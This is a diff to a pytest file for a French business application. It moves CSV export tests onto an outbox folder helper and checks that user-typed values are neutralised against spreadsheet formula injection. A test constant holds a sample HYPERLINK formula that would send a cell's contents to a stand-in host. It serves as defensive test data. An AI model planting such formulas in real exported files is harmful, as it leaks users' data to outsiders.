@@ -8,9 +8,10 @@ import pytest
 
 from db.catalogue import OfferFilters, export_offers
 from db.company_lists import CompanyFilters, ContactFilters
-from db.csv_import import import_prospects
+from db.csv_import import import_prospects_file
 from db.csv_io import FORMULA_STARTS, export_rows, neutralise_cell, restore_cell
 from db.documents import DocumentFilters
+from db.folders import FolderFile, outbox
 from db.forms import COMPANY_FIELDS
 from db.list_exports import (
     export_companies,
@@ -25,6 +26,15 @@ from db.quotes import QuoteFilters
 
 PHONE = "+33 1 23 45 67 89"
 FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
+
+
+def target(tmp_path, name: str) -> FolderFile:
+    """A file of a test outbox, by name, as every export now takes it."""
+    return FolderFile(outbox(tmp_path / "files", "revendeur"), name)
+
+
+def written(tmp_path, name: str):
+    return outbox(tmp_path / "files", "revendeur").path / name
 
 
 def read_raw(path) -> list[list[str]]:
@@ -76,9 +86,9 @@ def test_restore_gives_back_every_value_neutralise_wrote():
 
 
 def test_export_rows_writes_the_header_and_every_cell_through_the_guard(tmp_path):
-    out = tmp_path / "liste.csv"
+    out = target(tmp_path, "liste.csv")
     assert export_rows(out, ["Nom", "=X"], [[FORMULA, PHONE], ["Jean-Pierre", -1]]) == 2
-    assert read_raw(out) == [
+    assert read_raw(written(tmp_path, "liste.csv")) == [
         ["Nom", "'=X"],
         ["'" + FORMULA, "'" + PHONE],
         ["Jean-Pierre", "'-1"],
@@ -98,16 +108,16 @@ def test_an_exported_file_imports_back_with_the_values_it_holds(scopes, tmp_path
         "site_country": "France",
     }
     quoted = dict(values, name="'=DÉJÀ CITÉE", site_postcode="75001", site_city="PARIS")
-    out = tmp_path / "aller-retour.csv"
     export_rows(
-        out,
+        target(tmp_path, "aller-retour.csv"),
         [f.label for f in COMPANY_FIELDS],
         [[row[f.name] for f in COMPANY_FIELDS] for row in (values, quoted)],
     )
+    out = written(tmp_path, "aller-retour.csv")
     raw = out.read_bytes().decode("utf-8-sig")
     assert f"'{PHONE}" in raw and "'=NOM PIÉGÉ SARL" in raw and "''=DÉJÀ CITÉE" in raw
 
-    report = import_prospects(scopes["revendeur"], out)
+    report = import_prospects_file(scopes["revendeur"], out)
 
     assert report.ok and len(report.imported) == 2
     for row, values_in in zip(report.imported, (values, quoted), strict=True):
@@ -150,23 +160,23 @@ def test_every_list_export_neutralises_what_users_typed(scopes, tmp_path):
             reseller,
             CompanyKind.CLIENT,
             CompanyFilters(identifiant=str(client.id)),
-            tmp_path / "clients.csv",
+            target(tmp_path, "clients.csv"),
         ),
         "contacts": export_contacts(
-            reseller, ContactFilters(company=str(client.id)), tmp_path / "contacts.csv"
+            reseller, ContactFilters(company=str(client.id)), target(tmp_path, "contacts.csv")
         ),
-        "devis": export_quotes(reseller, QuoteFilters(), tmp_path / "devis.csv"),
+        "devis": export_quotes(reseller, QuoteFilters(), target(tmp_path, "devis.csv")),
         "formulaires": export_documents(
-            reseller, DocumentFilters(company=str(client.id)), tmp_path / "formulaires.csv"
+            reseller, DocumentFilters(company=str(client.id)), target(tmp_path, "formulaires.csv")
         ),
         "prospects": export_prospects(
-            reseller, ProspectFilters(identifiant="1743"), tmp_path / "prospects.csv"
+            reseller, ProspectFilters(identifiant="1743"), target(tmp_path, "prospects.csv")
         ),
-        "catalogue": export_offers(staff, OfferFilters(), tmp_path / "catalogue.csv"),
+        "catalogue": export_offers(staff, OfferFilters(), target(tmp_path, "catalogue.csv")),
     }
     assert all(count >= 1 for count in exports.values()), exports
     cells = {
-        name: [c for row in read_raw(tmp_path / f"{name}.csv") for c in row] for name in exports
+        name: [c for row in read_raw(written(tmp_path, f"{name}.csv")) for c in row] for name in exports
     }
     for name, found in cells.items():
         assert not [c for c in found if c.startswith(FORMULA_STARTS)], name
